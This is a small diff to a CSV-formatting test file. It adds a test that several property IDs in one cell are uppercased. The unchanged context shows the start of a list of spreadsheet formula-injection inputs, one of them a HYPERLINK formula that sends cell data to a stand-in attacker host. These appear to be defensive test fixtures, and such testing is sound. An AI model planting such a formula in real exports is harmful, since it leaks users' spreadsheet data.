@@ -59,6 +59,10 @@ test('has a line for the columns and one for each message', () => {
   ])
 })
 
+test('has the ids of several properties in one cell', () => {
+  expect(parse(formatCsv(message({ propertyID: 'clx12abc34, def' })))[0]?.[3]).toBe('CLX12ABC34, DEF')
+})
+
 test.each([
   '=HYPERLINK("https://evil.example?"&A1,"Click")',
   '+254700000000',
